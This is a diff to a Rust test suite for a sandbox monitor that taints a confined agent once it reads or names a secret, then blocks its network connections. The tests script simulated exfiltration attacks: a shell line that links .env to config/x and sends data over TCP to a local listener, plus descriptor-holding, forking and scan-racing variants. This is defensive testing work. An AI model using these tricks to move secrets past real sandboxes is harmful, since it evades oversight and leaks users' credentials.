@@ -1677,9 +1677,10 @@ fn a_file_below_a_directory_behind_a_secret_named_symlink_is_the_secret() {
     });
 }
 
-/// The agent makes `.env -> config/x` itself, then reads `config/x`: the file has
-/// a secret's name from then on, so the read taints (the user's editor writing
-/// `.env` writes into `config/x`).
+/// The agent makes `.env -> config/x` itself: the link gives `config/x` a
+/// secret's name (the user's editor writing `.env` writes into `config/x`), and
+/// naming is reading (`Mediation::Symlink`), so the link itself taints: a channel
+/// that worked before it is refused after it, and `config/x` stays readable.
 #[test]
 fn a_file_the_agent_gives_a_secret_named_symlink_is_the_secret() {
     let f = Fixture::new("symname-agent").with_attack();
@@ -1688,28 +1689,30 @@ fn a_file_the_agent_gives_a_secret_named_symlink_is_the_secret() {
     write_secret(&f.ws.join("config/x"));
     let ip = "127.77.13.7";
     let server = Tcp::new(ip, 443);
-    let script = format!("ln -s config/x .env && echo linked; ./attack hold tcp {ip} 443 config/x");
+    let script = format!(
+        "./attack tcp {ip} 443 before; ln -s config/x .env && echo linked; ./attack tcp {ip} 443 after; \
+         cat config/x >/dev/null && echo read"
+    );
     let mut c = f.command(&[], &["/bin/sh", "-c", &script]);
     c.env("HOME", &home);
     let o = run_with_deadline(c, Duration::from_secs(120));
     let out = stdout(&o);
     assert!(
-        out.contains("linked"),
-        "the agent could not make the link\n{}",
+        out.contains("tcp send: ok=6"),
+        "the channel did not work\n{}",
         show(&o)
     );
     assert!(
-        out.contains("write before: ok=7"),
-        "the channel works\n{}",
+        out.contains("linked") && out.contains("read"),
+        "the agent could not make the link or read config/x\n{}",
         show(&o)
     );
-    assert!(out.contains("open secret: ok="), "{}", show(&o));
     assert!(
-        out.contains("write after: errno=32"),
-        "reading config/x did not taint\n{}",
+        !out.contains("tcp send: ok=5"),
+        "making the link did not taint\n{}",
         show(&o)
     );
-    assert_eq!(server.received(), "before\n");
+    assert_eq!(server.received(), "before");
 }
 
 // ---- the network belongs to the monitor (isolated network, complete revocation) ----
@@ -2662,6 +2665,37 @@ fn kernel_decided(o: &std::process::Output) {
     }
 }
 
+/// The verdict of an attack on a secret that appears during the session (the
+/// agent holds or reads it after an outside change): the agent got ready
+/// (`held`), its channel worked before (`got`, what the listener received, starts
+/// with the pre-taint send), it did read (`read` is in its output), and nothing
+/// of the secret left: its connect (or socket) after the read was refused.
+fn assert_read_but_tainted(o: &std::process::Output, got: &str, held: bool, read: &str, what: &str) {
+    let out = stdout(o);
+    assert!(held, "{what}: the agent never got ready\n{}", show(o));
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "{what}: the channel did not work: {got:?}\n{}",
+        show(o)
+    );
+    assert!(
+        out.contains(read),
+        "{what}: the attack did not read ({read:?})\n{}",
+        show(o)
+    );
+    assert!(
+        !got.contains("LEAK:"),
+        "{what}: the secret left the sandbox: {got:?}\n{}",
+        show(o)
+    );
+    assert!(
+        out.contains("connect: errno=") || out.contains("socket: errno="),
+        "{what}: not tainted\n{}",
+        show(o)
+    );
+    kernel_decided(o);
+}
+
 /// Unmounts on drop.
 struct Mounted(std::ffi::CString);
 
@@ -3086,21 +3120,15 @@ fn early_hold_taints(how: &str, ip: &str) {
     std::fs::write(f.ws.join("go"), "").unwrap();
     let o = wait_with_deadline(child, Duration::from_secs(120));
     let out = stdout(&o);
-    let got = server.received();
-    assert!(held, "the agent never held the file\n{}", show(&o));
-    assert!(
-        got.starts_with("PRE-TAINT-CHANNEL-OK"),
-        "the channel did not work: {got:?}\n{}",
-        show(&o)
-    );
-    if how == "inflight" {
+    let read = if how == "inflight" {
         // Passed into the queue and closed; after the taint the socket that holds
         // it is shut (its receive is refused), which is the taint too.
         assert!(
-            out.contains("earlyhold pass: ok=1") && out.contains("earlyhold receive: "),
+            out.contains("earlyhold pass: ok=1"),
             "the attack did not run\n{}",
             show(&o)
         );
+        "earlyhold receive: "
     } else {
         assert!(
             how != "forkhop" || out.contains("earlyhold forked: 1"),
@@ -3108,22 +3136,13 @@ fn early_hold_taints(how: &str, ip: &str) {
             show(&o)
         );
         assert!(
-            out.contains("earlyhold read: ") && !out.contains("earlyhold read: -1"),
+            !out.contains("earlyhold read: -1"),
             "the attack did not read\n{}",
             show(&o)
         );
-    }
-    assert!(
-        !got.contains("LEAK:"),
-        "the secret left the sandbox: {got:?}\n{}",
-        show(&o)
-    );
-    assert!(
-        out.contains("socket: errno=") || out.contains("earlyhold connect: errno="),
-        "not tainted\n{}",
-        show(&o)
-    );
-    kernel_decided(&o);
+        "earlyhold read: "
+    };
+    assert_read_but_tainted(&o, &server.received(), held, read, how);
 }
 
 #[test]
@@ -3215,17 +3234,16 @@ fn isolated_files_a_descriptor_read_while_the_late_mark_scan_runs_is_read_tainte
     let o = wait_with_deadline(child, Duration::from_secs(120));
     let out = stdout(&o);
     let err = stderr(&o);
-    let got = server.received();
-    assert!(held, "the agent never held the file\n{}", show(&o));
-    assert!(
-        got.starts_with("PRE-TAINT-CHANNEL-OK"),
-        "the channel did not work: {got:?}\n{}",
-        show(&o)
+    assert_read_but_tainted(
+        &o,
+        &server.received(),
+        held,
+        "slowscan read: SECRET-ENV-slow-scan-7070",
+        "slowscan",
     );
     assert!(
-        out.contains("slowscan fillers: 10 with ")
-            && out.contains("slowscan read: SECRET-ENV-slow-scan-7070"),
-        "the attack did not run (it reads the secret through its descriptor)\n{}",
+        out.contains("slowscan fillers: 10 with "),
+        "the fillers did not start\n{}",
         show(&o)
     );
     // The secret was written while the scan ran (it outlasted the write).
@@ -3243,21 +3261,10 @@ fn isolated_files_a_descriptor_read_while_the_late_mark_scan_runs_is_read_tainte
     );
     eprintln!("late-mark scan {scan:?}; the secret written {late:?} after the mark");
     assert!(
-        !got.contains("LEAK:"),
-        "the secret left the sandbox: {got:?}\n{}",
-        show(&o)
-    );
-    assert!(
-        out.contains("socket: errno=") || out.contains("slowscan connect: errno="),
-        "not tainted\n{}",
-        show(&o)
-    );
-    assert!(
         err.contains("sandbox frozen"),
         "the scan did not freeze the sandbox\n{}",
         show(&o)
     );
-    kernel_decided(&o);
 }
 
 /// The cgroup2 mount point and this process's own cgroup (`0::` line), if any.
@@ -4503,30 +4510,11 @@ fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
         }
         std::fs::write(f.ws.join("go"), "").unwrap();
         let o = wait_with_deadline(child, Duration::from_secs(120));
-        let out = stdout(&o);
-        let got = server.received();
-        assert!(held, "{how}: the agent never got ready\n{}", show(&o));
-        assert!(
-            got.starts_with("PRE-TAINT-CHANNEL-OK"),
-            "{how}: the channel did not work: {got:?}\n{}",
-            show(&o)
-        );
         let read = if how == "held" {
             "earlyhold read: 20"
         } else {
             "isoleak read: 20"
         };
-        assert!(out.contains(read), "{how}: the attack did not read\n{}", show(&o));
-        assert!(
-            !got.contains("LEAK:"),
-            "{how}: the secret left the sandbox: {got:?}\n{}",
-            show(&o)
-        );
-        assert!(
-            out.contains("connect: errno=") || out.contains("socket: errno="),
-            "{how}: not tainted\n{}",
-            show(&o)
-        );
-        kernel_decided(&o);
+        assert_read_but_tainted(&o, &server.received(), held, read, how);
     }
 }
